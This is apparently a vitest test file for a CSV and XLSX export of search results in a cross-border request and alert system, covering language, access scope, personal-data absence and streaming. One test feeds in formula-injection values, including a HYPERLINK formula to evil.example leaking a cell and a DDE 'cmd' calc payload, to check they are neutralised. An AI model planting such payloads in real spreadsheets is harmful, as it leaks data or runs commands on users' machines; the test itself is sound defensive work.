/**
 * Exports of search results through the application service over the memory storage: a viewer's
 * search, each result loaded and shown through `view`, written as CSV and XLSX and read back.
 */
import { describe, expect, it } from 'vitest'
import * as E from 'fp-ts/lib/Either.js'
import ExcelJS from 'exceljs'
import { createMemoryStorage } from '@imi-kit/storage-adapters'
import type { Actor, DirectoryData, ExchangeId, ExchangeSummary, ExchangeView, Language, UserId, Viewer } from '@imi-kit/core'
import { createApplicationService, createDirectory, createProcedureRegistry, domainError, fixedClock, listingScope, requestForInformation, sequentialIds, userViewer } from '@imi-kit/core'
import { A, ALERT_START, DAY, TEST_ALERT_POLICY, U, alertDraft, pqDraft, standardAnswers, testAlertProcedure, world, worldData } from '@imi-kit/core/testing'
import type { ExportFile, ExportSearchOptions, ExportSource } from './export-search.js'
import { exportSearch, exportSearchStream } from './export-search.js'
import { EXPORT_COLUMNS } from './labels.js'
import { loadExchanges, searchAll } from './sources.js'
import { readAll, readCsv, readXlsx, sheetValues } from './test-support.js'

// ---------------------------------------------------------------------------------------------
// fixture

const directory = world()
const as = (id: UserId): Actor => ({ kind: 'user', userId: id, authorityId: directory.user(id)?.authorityId ?? A.frCa })
const viewer = (id: UserId): Viewer => {
  const v = userViewer(directory, id)
  if (v === undefined) throw new Error(`no fixture user ${id}`)
  return v
}
const languageOf = (v: Viewer): Language => (v.kind === 'user' ? v.user.language : 'en')
const en = (text: string) => ({ text, language: 'en' }) as const

type Options = Partial<Omit<ExportSearchOptions, 'viewer' | 'rows'>>

const setup = () => {
  const clock = fixedClock(ALERT_START)
  const storage = createMemoryStorage({ clock })
  const app = createApplicationService({
    registry: createProcedureRegistry([requestForInformation, testAlertProcedure]),
    storage,
    clock,
    ids: sequentialIds('exp'),
    directory,
  })
  const created: ExchangeId[] = []
  const run = async (who: UserId | Actor, command: Record<string, unknown>): Promise<ExchangeId> => {
    const r = await app.execute(typeof who === 'string' ? as(who) : who, command)
    if (E.isLeft(r)) throw new Error(`${String(command.type)} refused: ${r.left.code} (${r.left.ruleId ?? 'no rule'})`)
    if (!created.includes(r.right.exchangeId)) created.push(r.right.exchangeId)
    clock.advance(60_000)
    return r.right.exchangeId
  }
  /** Every exchange, loaded, whoever may see it: the export must sort out what the viewer sees. */
  const everything = async (): Promise<ReadonlyArray<ExportSource>> => {
    const out: ExportSource[] = []
    for (const id of created) {
      const l = await app.load(id)
      if (E.isRight(l)) out.push(l.right)
    }
    return out
  }
  /** The viewer's search (every page, two results a page), loaded and exported. */
  const exportAs = async (v: Viewer, options: Options = {}): Promise<ExportFile> => {
    const scope = listingScope(v)
    const rows = scope === undefined ? await everything() : loadExchanges(app, searchAll(storage.projections, { scope, sort: 'number-asc', limit: 2 }))
    return exportSearch({ format: 'csv', language: languageOf(v), directory, ...options, viewer: v, rows })
  }
  /** What `view` shows a viewer of one exchange, through the application service. */
  const viewOf = async (who: UserId, id: ExchangeId): Promise<ExchangeView> => {
    const r = await app.view(as(who), id)
    if (E.isLeft(r)) throw new Error(`${who} sees nothing of ${id}: ${r.left.code}`)
    return r.right
  }
  return { app, storage, clock, run, exportAs, viewOf, everything, created }
}

type Setup = ReturnType<typeof setup>

/** A request taken through its whole life: sent by France, accepted and answered by Germany, closed. */
const closedRequest = async ({ run }: Setup, draft: Record<string, unknown> = pqDraft()): Promise<ExchangeId> => {
  const id = await run(U.frHandler, draft)
  await run(U.frHandler, { type: 'request.send', exchangeId: id })
  await run(U.deHandler, { type: 'request.accept', exchangeId: id })
  await run(U.deHandler, { type: 'request.reply', exchangeId: id, answers: standardAnswers })
  await run(U.frHandler, { type: 'request.close', exchangeId: id })
  return id
}

/** An alert broadcast by France to Germany and Italy; Germany acknowledged it and forwarded it to its authority. */
const broadcastAlert = async ({ run }: Setup, draft: Record<string, unknown> = {}): Promise<ExchangeId> => {
  const id = await run(U.frAlertHandler, alertDraft({ establishment: 'DE', ...draft }))
  await run(U.frAlertHandler, { type: 'alert.submit', exchangeId: id })
  await run(U.frNimicBroadcaster, { type: 'alert.accept', exchangeId: id })
  await run(U.frNimicBroadcaster, { type: 'alert.broadcast', exchangeId: id })
  await run(U.deNimicBroadcaster, { type: 'alert.acknowledge', exchangeId: id })
  await run(U.deNimicBroadcaster, { type: 'alert.forward-within-state', exchangeId: id, authorities: [A.deCa] })
  return id
}

const proposeClosure = ({ run }: Setup, id: ExchangeId, text = 'The provider ceased trading.') =>
  run(U.deAlertHandler, { type: 'alert.propose-closure', exchangeId: id, coordinator: A.deNimic, text: en(text) })

const csv = (file: ExportFile) => {
  const [header = [], ...rows] = readCsv(file.body)
  return { header, rows }
}

const xlsx = async (file: ExportFile) => {
  const { workbook, sheet } = await readXlsx(file.body)
  const [header = [], ...rows] = sheetValues(sheet)
  return { workbook, sheet, header, rows }
}

const column = (name: (typeof EXPORT_COLUMNS)[number]): number => EXPORT_COLUMNS.indexOf(name)

// ---------------------------------------------------------------------------------------------
// tests

describe('exports of search results', () => {
  it('writes the headers in the viewer\'s language — English, French, German — and in English for a language without labels', async () => {
    const s = setup()
    const expected: ReadonlyArray<[Language, ReadonlyArray<string>, string]> = [
      ['en', ['Number', 'Procedure', 'Status', 'Legislative area'], 'Search results'],
      ['fr', ['Numéro', 'Procédure', 'Statut', 'Domaine législatif'], 'Résultats de recherche'],
      ['de', ['Nummer', 'Verfahren', 'Status', 'Rechtsbereich'], 'Suchergebnisse'],
      ['it', ['Number', 'Procedure', 'Status', 'Legislative area'], 'Search results'],
    ]
    for (const [language, first, sheetName] of expected) {
      const fromCsv = csv(await s.exportAs(viewer(U.frHandler), { language }))
      expect(fromCsv.header.slice(0, 4)).toEqual(first)
      expect(fromCsv.header).toHaveLength(EXPORT_COLUMNS.length)
      expect(fromCsv.rows).toEqual([])
      const fromXlsx = await xlsx(await s.exportAs(viewer(U.frHandler), { language, format: 'xlsx' }))
      expect(fromXlsx.header).toEqual(fromCsv.header)
      expect(fromXlsx.sheet.name).toBe(sheetName)
    }
    const german = csv(await s.exportAs(viewer(U.deHandler), { language: 'de' })).header
    expect(german.slice(-2)).toEqual(['Dienstleistungstätigkeit', 'Niederlassungsmitgliedstaat'])
  })

  it('a French viewer and a German viewer export the same request each in their language, names from the directory and dates as stored', async () => {
    const s = setup()
    const id = await closedRequest(s)
    const summary = (await s.viewOf(U.frHandler, id)).summary
    const french = csv(await s.exportAs(viewer(U.frHandler)))
    expect(french.rows).toEqual([
      [
        summary.number,
        "Demande d'informations",
        'Clôturée',
        'Qualifications professionnelles',
        'Ordre national des médecins',
        'Ordre national des médecins; Ärztekammer Berlin',
        'FR; DE',
        summary.createdAt,
        summary.updatedAt,
        summary.sentAt,
        summary.closedAt,
        '2026-04-01',
        '',
        '',
      ],
    ])
    const german = await xlsx(await s.exportAs(viewer(U.deHandler), { format: 'xlsx' }))
    const date = (iso: string | undefined) => (iso === undefined ? null : new Date(iso))
    expect(german.header[0]).toBe('Nummer')
    expect(german.rows).toEqual([
      [
        summary.number,
        'Auskunftsersuchen',
        'Abgeschlossen',
        'Berufsqualifikationen',
        'Ordre national des médecins',
        'Ordre national des médecins; Ärztekammer Berlin',
        'FR; DE',
        date(summary.createdAt),
        date(summary.updatedAt),
        date(summary.sentAt),
        date(summary.closedAt),
        new Date(Date.UTC(2026, 3, 1)),
        null,
        null,
      ],
    ])
  })

  it('[ALERT-DISPLAY-OTHER-MS][ALERT-ACK-PER-MS] an alert during its comment period exported by Italy shows "broadcast", by Germany the closure proposal, and by Italy\'s mailbox before acknowledging "awaiting acknowledgement"', async () => {
    const s = setup()
    const id = await broadcastAlert(s)
    await proposeClosure(s, id)
    const status = column('status')
    const statusFor = async (who: UserId, format: 'csv' | 'xlsx' = 'csv') => {
      const file = await s.exportAs(viewer(who), { format })
      const rows = format === 'csv' ? csv(file).rows : (await xlsx(file)).rows
      expect(rows).toHaveLength(1)
      return rows[0]?.[status]
    }
    // Italy's mailbox has not acknowledged the alert yet: it sees it awaiting acknowledgement.
    expect(await statusFor(U.itNimicBroadcaster)).toBe('Alert awaiting acknowledgement')
    await s.run(U.itNimicBroadcaster, { type: 'alert.acknowledge', exchangeId: id })
    // Italian has no labels: the export falls back to English. Italy does not know of the proposal.
    expect(await statusFor(U.itNimicBroadcaster)).toBe('Alert broadcast')
    expect(await statusFor(U.itNimicBroadcaster, 'xlsx')).toBe('Alert broadcast')
    expect((await s.viewOf(U.itNimicBroadcaster, id)).displayedStatus).toBe('broadcast')
    // France, the initiating state, is not the state proposing closure either.
    expect(await statusFor(U.frAlertHandler)).toBe('Alerte diffusée')
    // Germany, the state of establishment proposing closure, sees the comment phase.
    expect(await statusFor(U.deNimicBroadcaster)).toBe('Abschlussvorschlag offen für Kommentare')
    expect(await statusFor(U.deAlertHandler, 'xlsx')).toBe('Abschlussvorschlag offen für Kommentare')

    // Once the proposal is broadcast, every state sees the objection period.
    s.clock.advance(TEST_ALERT_POLICY.commentPeriod.days * DAY)
    expect(await s.app.fireDueTimers()).toBe(1)
    await s.run(U.deNimicBroadcaster, { type: 'alert.broadcast-closure-proposal', exchangeId: id, includedComments: [] })
    expect(await statusFor(U.itNimicBroadcaster)).toBe('Closure proposal open for objections')
    expect(await statusFor(U.frAlertHandler)).toBe('Proposition de clôture ouverte pour objections')
  })

  it('[SRCH-ALERT-LIST-COLUMNS] exports an alert\'s number, service activity, state of establishment, initiating authority, status and broadcast date, in the columns asked for', async () => {
    const s = setup()
    const known = await broadcastAlert(s)
    const unknown = await broadcastAlert(s, { establishment: null, serviceActivity: 'Scaffolding' })
    const columns = ['number', 'serviceActivity', 'establishment', 'initiatingAuthority', 'status', 'sentAt'] as const
    const rowOf = async (id: ExchangeId) => {
      const v = await s.viewOf(U.frAlertHandler, id)
      return [v.number, v.summary.details?.serviceActivity, v.summary.details?.establishment === 'unknown' ? 'Inconnu' : 'DE', 'Ordre national des médecins', 'Alerte diffusée', v.summary.sentAt]
    }
    const file = csv(await s.exportAs(viewer(U.frAlertHandler), { columns }))
    expect(file.header).toEqual(['Numéro', 'Activité de services', "État membre d'établissement", "Autorité à l'origine", 'Statut', 'Envoyé ou diffusé le'])
    expect(file.rows).toEqual([await rowOf(known), await rowOf(unknown)])
    expect(file.rows.map((r) => r[1])).toEqual(['Non-emergency patient transport', 'Scaffolding'])
    expect(file.rows.map((r) => r[2])).toEqual(['DE', 'Inconnu'])
  })

  it('[SRCH-ALERT-PRINT-SCOPE] leaves out every exchange that `view` shows the viewer nothing of, and asks `view` with that viewer', async () => {
    const s = setup()
    const alert = await broadcastAlert(s)
    const request = await closedRequest(s)
    const draft = await s.run(U.frHandler, pqDraft())
    const all = await s.everything()
    // An Italian authority that did not receive the alert and takes no part in the requests sees nothing.
    const outsider = await exportSearch({ format: 'csv', viewer: viewer(U.itAlertHandler), language: 'it', directory, rows: all })
    expect(outsider).toMatchObject({ rows: 0, hidden: 3 })
    expect(csv(outsider).rows).toEqual([])
    // The German handler sees the request it answered, not France's draft nor the alert (it holds no alert role).
    const german = await exportSearch({ format: 'xlsx', viewer: viewer(U.deHandler), language: 'de', directory, rows: all })
    expect(german).toMatchObject({ rows: 1, hidden: 2 })
    expect((await xlsx(german)).rows.map((r) => r[0])).toEqual([(await s.viewOf(U.deHandler, request)).number])
    // The French alert handler sees the alert; the French request handler the request and the draft.
    const numbers = async (who: UserId) => csv(await exportSearch({ format: 'csv', viewer: viewer(who), language: 'fr', directory, rows: all })).rows.map((r) => r[0])
    expect(await numbers(U.frAlertHandler)).toEqual([(await s.viewOf(U.frAlertHandler, alert)).number])
    expect(await numbers(U.frHandler)).toEqual([(await s.viewOf(U.frHandler, request)).number, (await s.viewOf(U.frHandler, draft)).number])

    // Rows come from the procedure's own view, asked with the exporting viewer.
    const asked: Viewer[] = []
    const spied = all.map((x) => ({ ...x, procedure: { ...x.procedure, view: (state: unknown, v: Viewer) => (asked.push(v), x.procedure.view(state, v)) } }))
    const deViewer = viewer(U.deViewer)
    await exportSearch({ format: 'csv', viewer: deViewer, language: 'de', directory, rows: spied })
    expect(asked).toEqual([deViewer, deViewer, deViewer])
    // A procedure whose view shows nothing exports nothing, whatever its summary says.
    const blind = all.map((x) => ({ ...x, procedure: { ...x.procedure, view: () => undefined } }))
    expect(await exportSearch({ format: 'csv', viewer: viewer(U.frHandler), language: 'fr', directory, rows: blind })).toMatchObject({ rows: 0, hidden: 3 })
  })

  it('no export holds personal data, at any step of a request\'s and an alert\'s lives and for any viewer, although full views show it', async () => {
    const s = setup()
    const SENTINEL = /sentinel|1980-05-17/i
    const subject = { name: 'Zébulon SENTINEL-SUBJECT', 'date-of-birth': '1980-05-17', profession: 'Médecin', reference: 'DOS-42' }
    const provider = { name: 'SENTINEL-PROVIDER Ambulances', address: 'SENTINEL-ADDRESS 12 rue de la Paix', registrationNumber: 'SENTINEL-REG-552100554' }
    const viewers: ReadonlyArray<Viewer> = [
      ...[U.frHandler, U.frViewer, U.frAllocator, U.frLda, U.frNimicReferee, U.deHandler, U.deViewer, U.deLda, U.de2Handler, U.itHandler].map(viewer),
      ...[U.frAlertHandler, U.frNimicBroadcaster, U.deNimicBroadcaster, U.deAlertHandler, U.deAlertViewer, U.itNimicBroadcaster].map(viewer),
      { kind: 'commission' },
      { kind: 'system-administrator' },
    ]
    let exported = 0
    let viewsWithPersonalData = 0
    const check = async (step: string) => {
      for (const v of viewers) {
        for (const source of await s.everything()) if (SENTINEL.test(JSON.stringify(source.procedure.view(source.state, v) ?? null))) viewsWithPersonalData += 1
        const fromCsv = await s.exportAs(v)
        const text = new TextDecoder().decode(fromCsv.body)
        expect(text, `${step}: CSV of ${JSON.stringify(v.kind === 'user' ? v.user.id : v.kind)}`).not.toMatch(SENTINEL)
        exported += fromCsv.rows
        const fromXlsx = await xlsx(await s.exportAs(v, { format: 'xlsx' }))
        const cells = fromXlsx.rows.flat().map((c) => (c instanceof Date ? c.toISOString() : String(c)))
        const w = fromXlsx.workbook
        expect([...cells, w.creator, w.lastModifiedBy, w.title, w.subject, w.keywords, w.description].join('\n'), `${step}: XLSX`).not.toMatch(SENTINEL)
      }
    }
    const request = await s.run(U.frHandler, pqDraft({ caseData: subject }))
    await check('request draft')
    for (const [who, command] of [
      [U.frHandler, { type: 'request.send', exchangeId: request }],
      [U.deHandler, { type: 'request.accept', exchangeId: request }],
      [U.deHandler, { type: 'request.reply', exchangeId: request, answers: standardAnswers }],
      [U.frHandler, { type: 'request.close', exchangeId: request }],
    ] as const) {
      await s.run(who, command)
      await check(command.type)
    }
    const alert = await s.run(U.frAlertHandler, alertDraft({ establishment: 'DE', provider, caseDescription: en('SENTINEL-CASE vehicles without certificates') }))
    await check('alert draft')
    const steps: ReadonlyArray<readonly [UserId | 'timer', Record<string, unknown>]> = [
      [U.frAlertHandler, { type: 'alert.submit', exchangeId: alert }],
      [U.frNimicBroadcaster, { type: 'alert.accept', exchangeId: alert }],
      [U.frNimicBroadcaster, { type: 'alert.broadcast', exchangeId: alert }],
      [U.deNimicBroadcaster, { type: 'alert.acknowledge', exchangeId: alert }],
      [U.deNimicBroadcaster, { type: 'alert.forward-within-state', exchangeId: alert, authorities: [A.deCa] }],
      [U.deAlertHandler, { type: 'alert.propose-closure', exchangeId: alert, coordinator: A.deNimic, text: en('SENTINEL-PROVIDER ceased trading.') }],
      ['timer', {}],
      [U.deNimicBroadcaster, { type: 'alert.broadcast-closure-proposal', exchangeId: alert, includedComments: [] }],
      ['timer', {}],
      [U.deNimicBroadcaster, { type: 'alert.close', exchangeId: alert }],
    ]
    for (const [who, command] of steps) {
      if (who === 'timer') {
        s.clock.advance(Math.max(TEST_ALERT_POLICY.commentPeriod.days, TEST_ALERT_POLICY.objectionPeriod.days) * DAY)
        await s.app.fireDueTimers()
      } else await s.run(who, command)
      await check(String(command.type ?? 'timer'))
    }
    expect((await s.viewOf(U.frAlertHandler, alert)).status).toBe('closed')
    // The test could fail: the exports hold rows, and the views behind them did show the sentinels.
    expect(exported).toBeGreaterThan(100)
    expect(viewsWithPersonalData).toBeGreaterThan(20)
  })

  it('neutralises cells a spreadsheet would read as formulas in CSV, and keeps them as plain text cells in XLSX', async () => {
    const s = setup()
    const activity = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await broadcastAlert(s, { serviceActivity: activity })
    // Authority names come from the directory, which another party may administer.
    const renamed: Readonly<Record<string, string>> = { [A.frCa]: '@SUM(1+1)*cmd|\' /C calc\'!A0', [A.frNimic]: '+33 NIMIC', [A.deNimic]: '-1+1', [A.deCa]: '\t=1+1' }
    const data: DirectoryData = { ...worldData(), authorities: worldData().authorities.map((a) => ({ ...a, name: renamed[a.id] ?? a.name })) }
    const hostile = createDirectory(data)
    const columns = ['serviceActivity', 'initiatingAuthority', 'authorities'] as const
    const [row] = csv(await s.exportAs(viewer(U.frAlertHandler), { columns, directory: hostile })).rows
    expect(row?.[0]).toBe(`'${activity}`)
    expect(row?.[1]).toBe(`'${renamed[A.frCa]}`)
    expect(row?.[2]?.startsWith(`'${renamed[A.frCa]}; `)).toBe(true)

    const sheet = (await xlsx(await s.exportAs(viewer(U.frAlertHandler), { columns, directory: hostile, format: 'xlsx' }))).sheet
    const cell = sheet.getRow(2).getCell(1)
    expect(cell.value).toBe(activity)
    expect(cell.type).toBe(ExcelJS.ValueType.String)
    expect(cell.formula).toBeUndefined()
    expect(sheet.getRow(2).getCell(2).value).toBe(renamed[A.frCa])
  })

  it('XLSX: a bold header row frozen above the rows with an auto-filter, column widths, and dates as date cells', async () => {
    const s = setup()
    const id = await closedRequest(s)
    const summary = (await s.viewOf(U.frHandler, id)).summary
    const { sheet } = await xlsx(await s.exportAs(viewer(U.frHandler), { format: 'xlsx' }))
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(sheet.autoFilter).toBeTruthy()
    for (let c = 1; c <= EXPORT_COLUMNS.length; c++) {
      expect(sheet.getRow(1).getCell(c).font?.bold, `header ${c}`).toBe(true)
      const width = sheet.getColumn(c).width ?? 0
      expect(width).toBeGreaterThanOrEqual(String(sheet.getRow(1).getCell(c).value).length)
      expect(width).toBeLessThanOrEqual(80)
    }
    expect(sheet.getRow(2).getCell(1).font?.bold).not.toBe(true)
    const created = sheet.getRow(2).getCell(column('createdAt') + 1)
    expect(created.type).toBe(ExcelJS.ValueType.Date)
    expect(created.value).toEqual(new Date(summary.createdAt))
    expect(created.numFmt).toBe('yyyy-mm-dd"T"hh:mm:ss"Z"')
    const deadline = sheet.getRow(2).getCell(column('deadline') + 1)
    expect(deadline.value).toEqual(new Date(Date.UTC(2026, 3, 1)))
    expect(deadline.numFmt).toBe('yyyy-mm-dd')
  })

  it('localized dates: the wall-clock time of the reference time zone, written as the language writes dates', async () => {
    const s = setup()
    await closedRequest(s)
    // The request was created at 09:00 UTC on 2 March 2026: 10:00 in Brussels.
    const french = csv(await s.exportAs(viewer(U.frHandler), { dates: 'localized' })).rows[0]
    expect(french?.[column('createdAt')]).toBe('02/03/2026 10:00')
    expect(french?.[column('deadline')]).toBe('01/04/2026')
    const german = csv(await s.exportAs(viewer(U.deHandler), { dates: 'localized', timeZone: 'UTC' })).rows[0]
    expect(german?.[column('createdAt')]).toBe('02.03.2026, 09:00')
    const sheet = (await xlsx(await s.exportAs(viewer(U.deHandler), { dates: 'localized', format: 'xlsx' }))).sheet
    const created = sheet.getRow(2).getCell(column('createdAt') + 1)
    expect(created.value).toEqual(new Date(Date.UTC(2026, 2, 2, 10, 0)))
    expect(created.numFmt).toBe('dd"."mm"."yyyy", "hh:mm')
    await expect(s.exportAs(viewer(U.deHandler), { dates: 'localized', timeZone: 'Europe/Atlantis' })).rejects.toThrow(RangeError)
  })

  it('streams the same file as it writes in memory, CSV byte for byte and XLSX cell for cell', async () => {
    const s = setup()
    await closedRequest(s)
    await broadcastAlert(s)
    const all = await s.everything()
    for (const who of [U.frHandler, U.frAlertHandler]) {
      const base = { viewer: viewer(who), language: 'fr', directory, rows: all } as const
      const memory = await exportSearch({ ...base, format: 'csv' })
      const streamed = exportSearchStream({ ...base, format: 'csv' })
      expect(streamed).toMatchObject({ contentType: 'text/csv; charset=utf-8; header=present', fileName: 'search-export.csv' })
      expect(Buffer.from(await readAll(streamed.body)).equals(Buffer.from(memory.body))).toBe(true)
      expect(memory.rows).toBe(1)

      const xMemory = await exportSearch({ ...base, format: 'xlsx', fileName: 'résultats' })
      const xStreamed = exportSearchStream({ ...base, format: 'xlsx', fileName: 'résultats' })
      expect(xStreamed).toMatchObject({ contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', fileName: 'résultats.xlsx' })
      const fromStream = await readXlsx(await readAll(xStreamed.body))
      expect(sheetValues(fromStream.sheet)).toEqual(sheetValues((await readXlsx(xMemory.body)).sheet))
      expect(fromStream.sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    }
  })

  it('a streamed export reads its rows as it goes: cancelling stops the reading, and a failing source errors the stream', async () => {
    const s = setup()
    await closedRequest(s)
    const [request] = await s.everything()
    if (request === undefined) throw new Error('no request')
    let read = 0
    let closed = false
    async function* endless(): AsyncGenerator<ExportSource> {
      try {
        for (;;) {
          read += 1
          yield request as ExportSource
        }
      } finally {
        closed = true
      }
    }
    const out = exportSearchStream({ format: 'csv', viewer: viewer(U.frHandler), language: 'fr', directory, rows: endless() })
    const reader = out.body.getReader()
    for (let i = 0; i < 4; i++) expect((await reader.read()).done).toBe(false)
    await reader.cancel()
    expect(closed).toBe(true)
    expect(read).toBeLessThan(10)

    // XLSX: while nobody reads the stream, the rows stop being read once the buffers are full.
    read = 0
    closed = false
    const sheet = exportSearchStream({ format: 'xlsx', viewer: viewer(U.frHandler), language: 'fr', directory, rows: endless() }).body.getReader()
    expect((await sheet.read()).done).toBe(false)
    const pause = () => new Promise((resolve) => setTimeout(resolve, 150))
    let before = -1
    for (let i = 0; i < 40 && read !== before; i++) {
      before = read
      await pause()
    }
    expect(read).toBe(before)
    await sheet.cancel()
    await pause()
    expect(closed).toBe(true)
    expect(read).toBe(before)

    async function* failing(): AsyncGenerator<ExportSource> {
      yield request as ExportSource
      throw new Error('storage went away')
    }
    for (const format of ['csv', 'xlsx'] as const) {
      const broken = exportSearchStream({ format, viewer: viewer(U.frHandler), language: 'fr', directory, rows: failing() })
      await expect(readAll(broken.body)).rejects.toThrow('storage went away')
    }
    await expect(exportSearch({ format: 'csv', viewer: viewer(U.frHandler), language: 'fr', directory, rows: failing() })).rejects.toThrow('storage went away')
  })

  it('pages through a whole search up to a maximum, and loads each result, skipping one deleted since and failing on any other error', async () => {
    const s = setup()
    const ids: ExchangeId[] = []
    for (let i = 0; i < 5; i++) ids.push(await s.run(U.frHandler, pqDraft()))
    const scope = listingScope(viewer(U.frHandler))
    if (scope === undefined) throw new Error('no scope')
    const collect = async <X>(it: AsyncIterable<X>): Promise<X[]> => {
      const out: X[] = []
      for await (const x of it) out.push(x)
      return out
    }
    const found = await collect(searchAll(s.storage.projections, { scope, sort: 'created-desc', limit: 2 }))
    expect(found.map((x) => x.exchangeId)).toEqual([...ids].reverse())
    expect((await collect(searchAll(s.storage.projections, { scope, sort: 'created-desc', limit: 2 }, 3))).map((x) => x.exchangeId)).toEqual(ids.slice(2).reverse())

    await s.run(U.frHandler, { type: 'request.delete-draft', exchangeId: ids[0] })
    const loaded = await collect(loadExchanges(s.app, found))
    expect(loaded).toHaveLength(4)

    const unavailable = { load: async () => E.left(domainError('storage.unavailable', 'down')) }
    const summary: ExchangeSummary = found[0] as ExchangeSummary
    await expect(collect(loadExchanges(unavailable, [summary]))).rejects.toThrow(/storage\.unavailable/)
  })

  it('refuses an export without columns, and names the file safely', async () => {
    const s = setup()
    expect((await s.exportAs(viewer(U.frHandler), { fileName: 'a"b/c\\d\r\nrésultats' })).fileName).toBe('a_b_c_d__résultats.csv')
    expect(exportSearchStream({ format: 'xlsx', viewer: viewer(U.frHandler), language: 'fr', directory, rows: [], fileName: '  ' }).fileName).toBe('search-export.xlsx')
    await expect(s.exportAs(viewer(U.frHandler), { columns: [] })).rejects.toThrow(RangeError)
    expect(() => exportSearchStream({ format: 'csv', viewer: viewer(U.frHandler), language: 'fr', directory, rows: [], columns: [] })).toThrow(RangeError)
  })
})
